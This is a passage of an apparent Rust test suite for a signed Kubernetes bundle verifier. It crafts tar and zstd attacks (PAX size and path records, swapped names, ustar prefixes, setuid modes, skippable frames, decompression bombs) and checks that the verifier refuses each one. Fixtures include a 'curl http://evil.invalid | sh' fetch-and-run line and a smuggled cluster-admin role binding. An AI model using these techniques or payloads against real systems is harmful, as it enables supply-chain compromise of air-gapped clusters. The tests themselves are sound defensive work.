//! The attacker's side of `bundle verify`: bundles crafted from a genuine one
//! (`bundle_testbed::crafted`) so that GNU tar, bsdtar or Python's tarfile would extract
//! something other than what the signed index lists, or so that reading them costs
//! gigabytes. Each is refused by name (exit 3, nothing on stdout) in both layouts, and
//! the name attacks carry a control showing GNU tar really is fooled. The genuine
//! bundle, and any mutation the verifier accepts, extracts with all three tar readers
//! to exactly the index's entries.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Command;

use bundle_format::index::{BundleIndex, EntryRecord, FileRecord, SCHEMA_VERSION};
use bundle_format::sign::{KeyPassword, PublicKey, SecretKey};
use bundle_format::verify::{verify, CheckOnly, VerifyOptions};
use bundle_format::write::{write_bundle, EntrySource, WriteOptions};
use bundle_format::{EntryPath, Sha256Digest};
use bundle_testbed::crafted::{Archive, Layout, Skippable, ESCAPE_NAME};
use common::{Run, Session};

const CALICO: &[u8] =
    b"# calico for tests\nkind: DaemonSet\nimage: docker.io/calico/node:v3.26.4\n";
const EXTRA_DOC: &[u8] = b"---\nkind: ClusterRoleBinding\nmetadata: {name: evil}\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: User, name: mallory}]\n";
const NON_CANONICAL: &str = "has a tar header that bundle build never writes";

/// A long RPM path (over 100 bytes: the tar crate writes a GNU long name for it).
fn long_rpm() -> String {
    let p = "rpms/el9-x86_64/Packages/kubernetes-cni-1.3.0-150500.1.1.x86_64-built-for-an-air-gapped-site-with-a-long-release-tag.rpm".to_string();
    assert!(p.len() >= 100, "{}", p.len());
    p
}

/// Deterministic pseudo-random bytes (xorshift64).
struct XorShift(u64);
impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
}

/// A genuine signed bundle: a blob, four files (one of 1.25 MiB, a frame of its own), a
/// long-named RPM; with its keys and a session to run `bundle` in.
struct Genuine {
    s: Session,
    secret: PathBuf,
    public: PathBuf,
    bundle: PathBuf,
    blob: String,
}

fn genuine() -> Genuine {
    let s = Session::new();
    let (secret, public) = s.keygen("builder");
    let blob_data = b"{\"layer\": \"pretend\"}\n".to_vec();
    let blob = format!("images/blobs/sha256/{}", Sha256Digest::of(&blob_data).hex());
    let mut rng = XorShift(0x5eed);
    let contents: Vec<(String, Vec<u8>)> = vec![
        (blob.clone(), blob_data),
        (
            "files/a.txt".into(),
            b"hello from the connected side\n".to_vec(),
        ),
        ("files/calico.yaml".into(), CALICO.to_vec()),
        ("files/c.yaml".into(), b"kind: ConfigMap\n".to_vec()),
        ("files/big.bin".into(), rng.bytes(1_310_720)),
        (long_rpm(), b"not really an rpm\n".to_vec()),
    ];
    let (mut entries, mut files, mut sources) = (vec![], vec![], vec![]);
    for (path, data) in &contents {
        let p = EntryPath::new(path).unwrap();
        let sha256 = Sha256Digest::of(data);
        entries.push(EntryRecord {
            path: p.clone(),
            size: data.len() as u64,
            sha256,
        });
        if let Some(name) = path.strip_prefix("files/") {
            files.push(FileRecord {
                name: name.into(),
                url: format!("http://127.0.0.1/{name}"),
                path: p,
                size: data.len() as u64,
                sha256,
            });
        }
        sources.push(EntrySource::Bytes(data.clone()));
    }
    let index = BundleIndex {
        schema_version: SCHEMA_VERSION,
        name: "test".into(),
        version: "1".into(),
        created: "2026-01-01T00:00:00Z".into(),
        generator: "tests".into(),
        kubernetes_version: None,
        cni: None,
        entries,
        images: vec![],
        files,
        rpms: vec![],
    };
    let key = SecretKey::from_file(&secret, KeyPassword::None).unwrap();
    let sig = key.sign(&index.to_json(), "test").unwrap();
    let bundle = s.path("genuine.tar.zst");
    let written = write_bundle(
        &bundle,
        &index,
        Some(&sig),
        &sources,
        WriteOptions::default(),
        &|_| {},
    )
    .unwrap();
    assert!(written.seekable && written.frames >= 3, "{written:?}");
    Genuine {
        s,
        secret,
        public,
        bundle,
        blob,
    }
}

impl Genuine {
    fn archive(&self) -> Archive {
        Archive::read(&self.bundle).unwrap()
    }

    fn verify(&self, bundle: &Path) -> Run {
        self.s.run(&[
            "verify",
            bundle.to_str().unwrap(),
            "--pubkey",
            self.public.to_str().unwrap(),
        ])
    }

    fn out(&self, name: &str, layout: Layout) -> PathBuf {
        self.s.path(&format!("{name}-{layout:?}.tar.zst"))
    }

    /// Writes `archive` in both layouts and verifies each; returns (layout, path, run).
    fn verify_both(&self, name: &str, archive: &Archive) -> Vec<(Layout, PathBuf, Run)> {
        Layout::BOTH
            .iter()
            .map(|&layout| {
                let out = self.out(name, layout);
                archive.write(layout, &out).unwrap();
                let run = self.verify(&out);
                (layout, out, run)
            })
            .collect()
    }

    /// What every tar reader must extract: index, signature and every entry, by SHA-256.
    fn expected(&self) -> BTreeMap<String, String> {
        let a = self.archive();
        let mut out = BTreeMap::new();
        for name in ["bundle.json", "bundle.json.minisig"] {
            let m = &a.members[a.position(name)];
            out.insert(name.to_string(), Sha256Digest::of(&m.data).hex());
        }
        for e in a.index().entries {
            out.insert(e.path.to_string(), e.sha256.hex());
        }
        out
    }

    /// Archive order: index, signature, the index's entries.
    fn expected_order(&self) -> Vec<String> {
        ["bundle.json", "bundle.json.minisig"]
            .iter()
            .map(|s| s.to_string())
            .chain(
                self.archive()
                    .index()
                    .entries
                    .iter()
                    .map(|e| e.path.to_string()),
            )
            .collect()
    }
}

fn assert_rejected(run: &Run, layout: Layout, message: &str) {
    assert_eq!(
        run.code,
        3,
        "{layout:?}: expected rejection (exit 3):\n{}",
        run.transcript()
    );
    assert!(
        run.stderr.contains(message),
        "{layout:?}: stderr lacks `{message}`:\n{}",
        run.stderr
    );
    assert!(
        run.stdout.is_empty(),
        "{layout:?}: nothing on stdout for a rejected bundle: {}",
        run.stdout
    );
}

/// Refused as a header `bundle build` never writes, for one of `reasons`.
fn assert_non_canonical(run: &Run, layout: Layout, reasons: &[&str]) {
    assert_rejected(run, layout, NON_CANONICAL);
    assert!(
        reasons.iter().any(|r| run.stderr.contains(r)),
        "{layout:?}: stderr names none of {reasons:?}:\n{}",
        run.stderr
    );
}

// ---------------------------------------------------------------------------------
// The three tar readers an operator might use.

#[derive(Clone, Copy, Debug)]
enum Reader {
    GnuTar,
    Bsdtar,
    Tarfile,
}

const READERS: [Reader; 3] = [Reader::GnuTar, Reader::Bsdtar, Reader::Tarfile];

const TARFILE_EXTRACT: &str = "import subprocess, sys, tarfile
z = subprocess.Popen(['zstd', '-dcq', sys.argv[1]], stdout=subprocess.PIPE)
with tarfile.open(fileobj=z.stdout, mode='r|') as t:
    t.extractall(sys.argv[2])
# What tarfile left unread (after an end it saw early), as a shell pipe would.
while z.stdout.read(1 << 20):
    pass
sys.exit(z.wait())";

const TARFILE_LIST: &str = "import subprocess, sys, tarfile
z = subprocess.Popen(['zstd', '-dcq', sys.argv[1]], stdout=subprocess.PIPE)
with tarfile.open(fileobj=z.stdout, mode='r|') as t:
    for m in t:
        print(m.name)
# What tarfile left unread (after an end it saw early), as a shell pipe would.
while z.stdout.read(1 << 20):
    pass
sys.exit(z.wait())";

fn run_tool(cmd: &str, args: &[&str]) -> (bool, String, String) {
    let out = Command::new(cmd)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("running {cmd}: {e}"));
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Extracts `bundle` into a fresh `into` with `reader`; whether it succeeded, and its
/// messages.
fn extract(reader: Reader, bundle: &Path, into: &Path) -> (bool, String) {
    let _ = std::fs::remove_dir_all(into);
    std::fs::create_dir_all(into).unwrap();
    let (b, d) = (bundle.to_str().unwrap(), into.to_str().unwrap());
    let (ok, out, err) = match reader {
        Reader::GnuTar => run_tool("tar", &["-I", "zstd", "-xf", b, "-C", d]),
        Reader::Bsdtar => run_tool("bsdtar", &["-xf", b, "-C", d]),
        Reader::Tarfile => run_tool("python3", &["-c", TARFILE_EXTRACT, b, d]),
    };
    (ok, out + &err)
}

/// The names `reader` lists, in archive order.
fn list(reader: Reader, bundle: &Path) -> Vec<String> {
    let b = bundle.to_str().unwrap();
    let (ok, out, err) = match reader {
        Reader::GnuTar => run_tool("tar", &["-I", "zstd", "-tf", b]),
        Reader::Bsdtar => run_tool("bsdtar", &["-tf", b]),
        Reader::Tarfile => run_tool("python3", &["-c", TARFILE_LIST, b]),
    };
    assert!(ok, "{reader:?} lists {b}: {err}");
    out.lines().map(str::to_string).collect()
}

/// Every regular file under `dir` by relative path with its SHA-256; panics on
/// anything that is neither a file nor a directory.
fn walk(dir: &Path) -> (BTreeMap<String, String>, BTreeSet<String>) {
    fn go(
        root: &Path,
        dir: &Path,
        files: &mut BTreeMap<String, String>,
        dirs: &mut BTreeSet<String>,
    ) {
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            if meta.is_dir() {
                dirs.insert(rel);
                go(root, &p, files, dirs);
            } else if meta.is_file() {
                let data = std::fs::read(&p).unwrap();
                files.insert(rel, Sha256Digest::of(&data).hex());
            } else {
                panic!("{rel}: extracted as {:?}", meta.file_type());
            }
        }
    }
    let (mut files, mut dirs) = (BTreeMap::new(), BTreeSet::new());
    go(dir, dir, &mut files, &mut dirs);
    (files, dirs)
}

/// Directories a set of files needs.
fn parents(files: &BTreeMap<String, String>) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for f in files.keys() {
        let mut p = Path::new(f).parent();
        while let Some(d) = p.filter(|d| !d.as_os_str().is_empty()) {
            out.insert(d.to_string_lossy().into_owned());
            p = d.parent();
        }
    }
    out
}

/// All three readers extract exactly `expected` from `bundle` (the signature compared
/// only when `with_signature`, as its untrusted comment is not signed).
fn assert_readers_extract(
    bundle: &Path,
    expected: &BTreeMap<String, String>,
    scratch: &Path,
    with_signature: bool,
    context: &str,
) {
    if let Some(problem) = readers_disagree(bundle, expected, scratch, with_signature) {
        panic!("{context}: {problem}");
    }
}

/// The first way a reader's extraction of `bundle` differs from `expected`, if any.
fn readers_disagree(
    bundle: &Path,
    expected: &BTreeMap<String, String>,
    scratch: &Path,
    with_signature: bool,
) -> Option<String> {
    for reader in READERS {
        let into = scratch.join(format!("{reader:?}"));
        let (ok, msg) = extract(reader, bundle, &into);
        if !ok {
            return Some(format!(
                "{reader:?} fails to extract {}: {msg}",
                bundle.display()
            ));
        }
        let (mut files, dirs) = walk(&into);
        let mut want = expected.clone();
        if !with_signature {
            if files.remove("bundle.json.minisig").is_none() {
                return Some(format!("{reader:?} extracts no signature"));
            }
            want.remove("bundle.json.minisig");
        }
        if files != want {
            let missing: Vec<_> = want
                .keys()
                .filter(|k| files.get(*k) != want.get(*k))
                .collect();
            let extra: Vec<_> = files
                .keys()
                .filter(|k| files.get(*k) != want.get(*k))
                .collect();
            return Some(format!(
                "{reader:?} extracts other files than the index lists: missing or different {missing:?}, extra or different {extra:?} (the tar crate reads {:?})",
                tar_crate_names(bundle)
            ));
        }
        if dirs != parents(expected) {
            return Some(format!("{reader:?} makes other directories: {dirs:?}"));
        }
    }
    None
}

/// What `reader` extracts from `bundle`: path → content (unreadable members skipped).
fn extracted(reader: Reader, bundle: &Path, into: &Path) -> (bool, BTreeMap<String, Vec<u8>>) {
    let (ok, _) = extract(reader, bundle, into);
    let (files, _) = walk(into);
    let contents = files
        .keys()
        .map(|f| (f.clone(), std::fs::read(into.join(f)).unwrap()))
        .collect();
    (ok, contents)
}

/// Prints what each reader extracts where it differs from the index (the differential).
fn show_differential(g: &Genuine, bundle: &Path, what: &str) -> BTreeMap<String, Vec<u8>> {
    let expected = g.expected();
    let mut gnu = BTreeMap::new();
    for reader in READERS {
        let into = g.s.path(&format!("x-{what}-{reader:?}"));
        let (ok, files) = extracted(reader, bundle, &into);
        let differ: Vec<String> = files
            .iter()
            .filter(|(p, d)| expected.get(*p) != Some(&Sha256Digest::of(d).hex()))
            .map(|(p, d)| format!("{p:?} ({} bytes)", d.len()))
            .collect();
        let missing: Vec<&String> = expected
            .keys()
            .filter(|p| !files.contains_key(*p))
            .collect();
        eprintln!("{what}: {reader:?} (exit ok: {ok}) extracts differently: {differ:?}; missing: {missing:?}");
        if let Reader::GnuTar = reader {
            gnu = files;
        }
    }
    gnu
}

/// Names the tar crate reads (what `bundle verify` on main reads today).
fn tar_crate_names(bundle: &Path) -> Vec<String> {
    let data = bundle_testbed::crafted::decompress(bundle).unwrap();
    let mut archive = tar::Archive::new(data.as_slice());
    let mut names = vec![];
    match archive.entries() {
        Ok(entries) => {
            for e in entries {
                match e {
                    Ok(e) => names.push(String::from_utf8_lossy(&e.path_bytes()).into_owned()),
                    Err(err) => {
                        names.push(format!("<error: {err}>"));
                        break;
                    }
                }
            }
        }
        Err(err) => names.push(format!("<error: {err}>")),
    }
    names
}

// ---------------------------------------------------------------------------------
// 1. Differential on accepted bundles.

#[test]
fn tar_readers_extract_exactly_the_index() {
    let g = genuine();
    let run = g.verify(&g.bundle);
    assert_eq!(run.code, 0, "{}", run.transcript());
    let expected = g.expected();
    let order = g.expected_order();
    assert!(expected.keys().any(|p| p.len() >= 100));
    // The bundle as built (frames and seek table), and re-packed in both layouts.
    let mut bundles = vec![g.bundle.clone()];
    for (layout, out, run) in g.verify_both("repacked", &g.archive()) {
        assert_eq!(run.code, 0, "{layout:?}: {}", run.transcript());
        bundles.push(out);
    }
    for b in &bundles {
        assert_readers_extract(b, &expected, &g.s.path("extract"), true, "genuine");
        for reader in READERS {
            assert_eq!(list(reader, b), order, "{reader:?} -t of {}", b.display());
        }
        assert_eq!(tar_crate_names(b), order);
    }
}

// ---------------------------------------------------------------------------------
// 2. Random mutations: whatever the verifier accepts, every reader extracts as listed.

#[derive(Clone, Copy, Debug)]
enum Region {
    Header,
    Padding,
    Data,
}

/// Byte ranges of the tar by kind: headers (extension headers too), padding (between
/// data and the next block, and the end-of-archive blocks), data.
fn regions(a: &Archive) -> Vec<(Region, std::ops::Range<usize>)> {
    let mut out = vec![];
    let mut at = 0;
    for m in &a.members {
        let mut e = 0;
        while e < m.ext.len() {
            // An extension header, then its data (a name or records) up to the block.
            out.push((Region::Header, at + e..at + e + 512));
            let size = bundle_testbed::crafted::octal(&m.ext[e + 124..e + 136]) as usize;
            out.push((Region::Data, at + e + 512..at + e + 512 + size));
            e += 512 + size.div_ceil(512) * 512;
        }
        at += m.ext.len();
        out.push((Region::Header, at..at + 512));
        let len = m.data.len();
        out.push((Region::Data, at + 512..at + 512 + len));
        let end = at + 512 + len.div_ceil(512) * 512;
        if end > at + 512 + len {
            out.push((Region::Padding, at + 512 + len..end));
        }
        at = end;
    }
    out.push((Region::Padding, at..at + 1024));
    out
}

#[test]
fn whatever_verify_accepts_tar_readers_extract_as_listed() {
    let g = genuine();
    let key = PublicKey::from_file(&g.public).unwrap();
    let opts = VerifyOptions::signed_by(key);
    let archive = g.archive();
    let tar = archive.tar_bytes();
    let regions = regions(&archive);
    let expected = g.expected();
    let out = g.s.path("mutated.tar.zst");
    let mut rng = XorShift(0x00c0_ffee_1234_5678);
    let (mut accepted, mut refused) = (0, 0);
    let mut failures = vec![];
    let mut kinds: BTreeMap<String, (u32, u32)> = BTreeMap::new();
    for i in 0..300 {
        let mut t = tar.clone();
        let (kind, detail) = match rng.below(6) {
            0..=2 => {
                // Flip bits in a header, padding or data byte (header: checksum fixed
                // half the time, so more than checksum errors are met).
                let want = [Region::Header, Region::Padding, Region::Data][rng.below(3)];
                let pick: Vec<_> = regions
                    .iter()
                    .filter(|(r, span)| {
                        std::mem::discriminant(r) == std::mem::discriminant(&want)
                            && !span.is_empty()
                    })
                    .collect();
                let (_, span) = pick[rng.below(pick.len())];
                let at = span.start + rng.below(span.len());
                t[at] ^= 1 << rng.below(8);
                let fixed = matches!(want, Region::Header) && rng.below(2) == 0;
                if fixed {
                    let block = at / 512 * 512;
                    let mut h: [u8; 512] = t[block..block + 512].try_into().unwrap();
                    bundle_testbed::crafted::set_checksum(&mut h);
                    t[block..block + 512].copy_from_slice(&h);
                }
                let kind = format!(
                    "flip {want:?}{}",
                    if fixed { " (checksum fixed)" } else { "" }
                );
                (kind, format!("byte {at}"))
            }
            3 => {
                let blocks = t.len() / 512;
                let at = rng.below(blocks + 1) * 512;
                let block = if rng.below(2) == 0 {
                    vec![0u8; 512]
                } else {
                    rng.bytes(512)
                };
                t.splice(at..at, block);
                ("insert block".into(), format!("at {at}"))
            }
            4 => {
                let blocks = t.len() / 512;
                let at = rng.below(blocks) * 512;
                t.drain(at..at + 512);
                ("remove block".into(), format!("at {at}"))
            }
            _ => {
                // A size digit one up or down, checksum fixed.
                let headers: Vec<_> = regions
                    .iter()
                    .filter(|(r, _)| matches!(r, Region::Header))
                    .collect();
                let (_, span) = headers[rng.below(headers.len())];
                let digit = span.start + 124 + rng.below(11);
                t[digit] = match t[digit] {
                    b'0' => b'1',
                    b'7' => b'6',
                    d if rng.below(2) == 0 => d + 1,
                    d => d - 1,
                };
                let mut h: [u8; 512] = t[span.start..span.end].try_into().unwrap();
                bundle_testbed::crafted::set_checksum(&mut h);
                t[span.clone()].copy_from_slice(&h);
                ("size digit".into(), format!("byte {digit}"))
            }
        };
        bundle_testbed::crafted::write_one_frame(&t, &out).unwrap();
        let tally = kinds.entry(kind.clone()).or_default();
        match verify(&out, &opts, &CheckOnly) {
            Ok(_) => {
                accepted += 1;
                tally.0 += 1;
                if let Some(problem) =
                    readers_disagree(&out, &expected, &g.s.path("extract"), false)
                {
                    failures.push(format!(
                        "mutation {i} ({kind}, {detail}), accepted by verify: {problem}"
                    ));
                }
            }
            Err(_) => {
                refused += 1;
                tally.1 += 1;
            }
        }
    }
    eprintln!(
        "mutations: {accepted} accepted, {refused} refused; by kind (accepted, refused): {kinds:?}"
    );
    assert!(refused > 0);
    assert!(
        failures.is_empty(),
        "{} accepted mutations extract differently:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

// ---------------------------------------------------------------------------------
// 3. One test per attack.

#[test]
fn verify_refuses_pax_size_record() {
    let g = genuine();
    let mut a = g.archive();
    a.pax_size_longer("files/calico.yaml", EXTRA_DOC);
    for (layout, out, run) in g.verify_both("pax-size", &a) {
        // Control: GNU tar extracts calico.yaml with the extra document.
        let gnu = show_differential(&g, &out, &format!("pax-size-{layout:?}"));
        assert_eq!(
            gnu["files/calico.yaml"],
            [CALICO, EXTRA_DOC].concat(),
            "{layout:?}: GNU tar extracts the appended document"
        );
        eprintln!(
            "pax-size {layout:?}: tar crate reads {:?}",
            tar_crate_names(&out)
        );
        assert_non_canonical(&run, layout, &["PAX extended header"]);
    }
}

/// GNU tar extracted `x`'s genuine content as `y` and `y`'s as `x`.
fn assert_swapped(gnu: &BTreeMap<String, Vec<u8>>, g: &Genuine, x: &str, y: &str) {
    let a = g.archive();
    let data = |p: &str| a.members[a.position(p)].data.clone();
    assert_eq!(
        gnu.get(y),
        Some(&data(x)),
        "GNU tar extracts {x}'s data as {y}"
    );
    assert_eq!(
        gnu.get(x),
        Some(&data(y)),
        "GNU tar extracts {y}'s data as {x}"
    );
}

#[test]
fn verify_refuses_two_pax_path_records() {
    let g = genuine();
    let mut a = g.archive();
    a.swap_by_pax_paths("files/a.txt", "files/calico.yaml");
    for (layout, out, run) in g.verify_both("pax-paths", &a) {
        let gnu = show_differential(&g, &out, &format!("pax-paths-{layout:?}"));
        assert_swapped(&gnu, &g, "files/a.txt", "files/calico.yaml");
        eprintln!(
            "pax-paths {layout:?}: tar crate reads {:?}",
            tar_crate_names(&out)
        );
        assert_non_canonical(&run, layout, &["PAX extended header"]);
    }
}

#[test]
fn verify_refuses_gnu_long_name_with_pax_path() {
    let g = genuine();
    let mut a = g.archive();
    a.swap_by_long_name_and_pax_path("files/a.txt", "files/calico.yaml");
    for (layout, out, run) in g.verify_both("longname-pax", &a) {
        let gnu = show_differential(&g, &out, &format!("longname-pax-{layout:?}"));
        assert_swapped(&gnu, &g, "files/a.txt", "files/calico.yaml");
        eprintln!(
            "longname-pax {layout:?}: tar crate reads {:?}",
            tar_crate_names(&out)
        );
        assert_non_canonical(&run, layout, &["GNU long name", "PAX extended header"]);
    }
}

#[test]
fn verify_refuses_ustar_prefix_behind_an_odd_version() {
    let g = genuine();
    let mut a = g.archive();
    a.ustar_prefix("files/calico.yaml", "rpms/el9-x86_64");
    for (layout, out, run) in g.verify_both("prefix", &a) {
        let gnu = show_differential(&g, &out, &format!("prefix-{layout:?}"));
        assert_eq!(
            gnu.get("rpms/el9-x86_64/files/calico.yaml")
                .map(Vec::as_slice),
            Some(CALICO),
            "GNU tar extracts calico.yaml under the prefix"
        );
        assert!(!gnu.contains_key("files/calico.yaml"));
        eprintln!(
            "prefix {layout:?}: tar crate reads {:?}",
            tar_crate_names(&out)
        );
        assert_non_canonical(&run, layout, &["ustar prefix", "magic"]);
    }
}

#[test]
fn verify_refuses_pax_global_header() {
    let g = genuine();
    let mut a = g.archive();
    a.pax_global_header("files/a.txt", "crafted");
    for (layout, _, run) in g.verify_both("pax-global", &a) {
        assert_non_canonical(&run, layout, &["PAX global header"]);
    }
}

#[test]
fn verify_refuses_setuid_world_writable_mode() {
    let g = genuine();
    let mut a = g.archive();
    a.set_mode("files/c.yaml", 0o6777);
    for (layout, out, run) in g.verify_both("mode", &a) {
        assert_non_canonical(&run, layout, &["mode 6777"]);
        if layout == Layout::OneFrame {
            // Control: GNU tar, run as root, keeps the mode.
            use std::os::unix::fs::PermissionsExt;
            let into = g.s.path("x-mode");
            let (ok, msg) = extract(Reader::GnuTar, &out, &into);
            assert!(ok, "{msg}");
            let mode = std::fs::metadata(into.join("files/c.yaml"))
                .unwrap()
                .permissions()
                .mode();
            eprintln!(
                "mode: GNU tar extracts files/c.yaml with mode {:o}",
                mode & 0o7777
            );
        }
    }
}

#[test]
fn verify_refuses_owner_other_than_root() {
    let g = genuine();
    let mut a = g.archive();
    a.set_owner("files/c.yaml", 1000, 1000);
    for (layout, out, run) in g.verify_both("owner", &a) {
        assert_non_canonical(&run, layout, &["owner 1000:1000"]);
        if layout == Layout::OneFrame {
            use std::os::unix::fs::MetadataExt;
            let into = g.s.path("x-owner");
            let (ok, msg) = extract(Reader::GnuTar, &out, &into);
            assert!(ok, "{msg}");
            let m = std::fs::metadata(into.join("files/c.yaml")).unwrap();
            eprintln!(
                "owner: GNU tar extracts files/c.yaml as {}:{}",
                m.uid(),
                m.gid()
            );
        }
    }
}

#[test]
fn verify_escapes_terminal_control_in_entry_names() {
    let g = genuine();
    let mut a = g.archive();
    a.insert_member(2, ESCAPE_NAME.as_bytes(), b"x");
    for (layout, _, run) in g.verify_both("escape", &a) {
        assert_eq!(run.code, 3, "{layout:?}: {}", run.transcript());
        assert!(run.stdout.is_empty(), "{layout:?}: {}", run.stdout);
        assert!(
            !run.stderr.contains('\x1b'),
            "{layout:?}: raw ESC in {:?}",
            run.stderr
        );
        assert!(
            !run.stderr.contains('\r'),
            "{layout:?}: raw CR in {:?}",
            run.stderr
        );
        assert!(
            run.stderr.contains("\\x1b"),
            "{layout:?}: ESC not shown escaped: {:?}",
            run.stderr
        );
    }
}

#[test]
fn verify_refuses_skippable_frames() {
    let g = genuine();
    let a = g.archive();
    for place in [Skippable::NoTable, Skippable::Listed, Skippable::Hidden] {
        let out = g.s.path(&format!("skippable-{place:?}.tar.zst"));
        a.write_with_skippable(place, b"#!/bin/sh\ncurl http://evil.invalid | sh\n", &out)
            .unwrap();
        // zstd skips it: tar lists exactly the genuine entries.
        assert_eq!(list(Reader::GnuTar, &out), g.expected_order(), "{place:?}");
        let run = g.verify(&out);
        assert_eq!(run.code, 3, "{place:?}: {}", run.transcript());
        assert!(run.stdout.is_empty(), "{place:?}: {}", run.stdout);
        assert!(
            run.stderr.contains("skippable zstd frame"),
            "{place:?}: {}",
            run.stderr
        );
    }
}

#[test]
fn verify_refuses_files_record_contradicting_its_entry() {
    let g = genuine();
    let mut a = g.archive();
    a.resign_index(&g.secret, |index| {
        let f = index
            .files
            .iter_mut()
            .find(|f| f.name == "calico.yaml")
            .unwrap();
        f.sha256 = Sha256Digest::of(b"another calico");
    });
    for (layout, _, run) in g.verify_both("files-record", &a) {
        assert_rejected(&run, layout, "files[] record");
    }
}

#[test]
fn verify_refuses_blob_not_matching_digest_in_its_path() {
    let g = genuine();
    let mut a = g.archive();
    a.replace_entry_resigned(
        &g.blob.clone(),
        b"{\"layer\": \"swapped\"}\n".to_vec(),
        &g.secret,
    );
    for (layout, _, run) in g.verify_both("blob-digest", &a) {
        assert_rejected(&run, layout, "digest in its path");
    }
}

// ---------------------------------------------------------------------------------
// 5. Memory and CPU bombs, with peak RSS and wall time printed (never asserted).

/// Runs `bundle verify` under `/usr/bin/time -v`; prints peak RSS and wall time.
fn verify_timed(g: &Genuine, bundle: &Path, what: &str) -> Run {
    let stats = g.s.path(&format!("{what}.time"));
    let out = Command::new("/usr/bin/time")
        .arg("-v")
        .arg("-o")
        .arg(&stats)
        .arg(env!("CARGO_BIN_EXE_bundle"))
        .args([
            "verify",
            bundle.to_str().unwrap(),
            "--pubkey",
            g.public.to_str().unwrap(),
        ])
        .current_dir(g.s.work())
        .env("XDG_CONFIG_HOME", g.s.dir.path().join("config"))
        .env("XDG_CACHE_HOME", g.s.dir.path().join("cache"))
        .env_remove("BUNDLE_LOG")
        .env("NO_COLOR", "1")
        .output()
        .expect("run bundle under time");
    let text = std::fs::read_to_string(&stats).unwrap_or_default();
    let field = |name: &str| {
        text.lines()
            .find_map(|l| l.trim().strip_prefix(name))
            .unwrap_or("?")
            .trim()
            .to_string()
    };
    eprintln!(
        "{what}: exit {:?}, peak RSS {} KiB, wall {}",
        out.status.code(),
        field("Maximum resident set size (kbytes):"),
        field("Elapsed (wall clock) time (h:mm:ss or m:ss):")
    );
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[test]
fn verify_refuses_index_with_pax_size_of_one_and_a_half_gib() {
    let g = genuine();
    let mut a = g.archive();
    a.pax_size_index_bomb(3 << 29);
    for layout in Layout::BOTH {
        let out = g.out("index-bomb", layout);
        a.write(layout, &out).unwrap();
        let run = verify_timed(&g, &out, &format!("index-bomb-{layout:?}"));
        assert_non_canonical(&run, layout, &["PAX extended header"]);
        std::fs::remove_file(&out).unwrap();
    }
}

#[test]
fn verify_refuses_frame_with_a_2_gib_window() {
    let g = genuine();
    let a = g.archive();
    for layout in Layout::BOTH {
        let out = g.out("window", layout);
        a.write_with_window_log(layout, "files/big.bin", 31, &out)
            .unwrap();
        // Control: honest enough to decode, given the memory.
        let (ok, _, err) = run_tool("zstd", &["-t", "-q", "--long=31", out.to_str().unwrap()]);
        assert!(ok, "{layout:?}: zstd --long=31 decodes it: {err}");
        let run = verify_timed(&g, &out, &format!("window-{layout:?}"));
        assert_rejected(&run, layout, "window");
    }
}

#[test]
fn verify_refuses_frame_decoding_more_than_declared() {
    let g = genuine();
    let a = g.archive();
    for layout in Layout::BOTH {
        let out = g.out("decodes-more", layout);
        a.write_decoding_more(layout, 4 << 30, &out).unwrap();
        let size = std::fs::metadata(&out).unwrap().len();
        eprintln!("decodes-more {layout:?}: {size} bytes compressed, 4 GiB more decoded");
        let run = verify_timed(&g, &out, &format!("decodes-more-{layout:?}"));
        match layout {
            Layout::Framed => assert_rejected(&run, layout, "seek table"),
            Layout::OneFrame => {
                assert_eq!(run.code, 3, "{layout:?}: {}", run.transcript());
                assert!(run.stdout.is_empty(), "{}", run.stdout);
            }
        }
        std::fs::remove_file(&out).unwrap();
    }
}

// ---------------------------------------------------------------------------------
// 4. Push and install refuse the PAX-size and a name attack before doing anything.

/// Tags of every repository in a registry's storage (read from disk).
fn stored_tags(data: &Path) -> Vec<String> {
    fn walk(dir: &Path, out: &mut Vec<String>) {
        let Ok(rd) = std::fs::read_dir(dir) else {
            return;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.file_name().is_some_and(|n| n == "_manifests") {
                if let Ok(tags) = std::fs::read_dir(p.join("tags")) {
                    out.extend(
                        tags.flatten().map(|t| {
                            format!("{}:{}", p.display(), t.file_name().to_string_lossy())
                        }),
                    );
                }
            } else if p.is_dir() {
                walk(&p, out);
            }
        }
    }
    let mut out = vec![];
    walk(&data.join("docker/registry/v2/repositories"), &mut out);
    out
}

/// The PAX-size attack on calico.yaml and the two-PAX-paths swap of calico.yaml with
/// the entry before it.
fn pax_size_and_swapped_names(genuine: &Archive) -> Vec<(&'static str, Archive)> {
    let calico = genuine.position("files/calico.yaml");
    let before = genuine.members[calico - 1].path.clone();
    let mut pax_size = genuine.clone();
    pax_size.pax_size_longer("files/calico.yaml", EXTRA_DOC);
    let mut names = genuine.clone();
    names.swap_by_pax_paths(&before, "files/calico.yaml");
    vec![("pax-size", pax_size), ("pax-paths", names)]
}

#[test]
fn push_of_pax_size_or_swapped_names_tags_nothing() {
    use bundle_testbed::Registry;
    let pause: Vec<_> = bundle_testbed::images::default_manifest_images(1)
        .into_iter()
        .filter(|i| i.repository == "pause")
        .collect();
    let up = common::upstream::Upstream::start(pause);
    let bundle = up.build_ok(&["registry.k8s.io/pause:3.9"]);
    let push = |b: &Path, registry: &Registry| {
        up.s.run(&[
            "push",
            b.to_str().unwrap(),
            "--pubkey",
            "builder.pub",
            "--registry",
            &registry.addr,
            "--plain-http",
        ])
    };
    // Control: the genuine bundle tags its image.
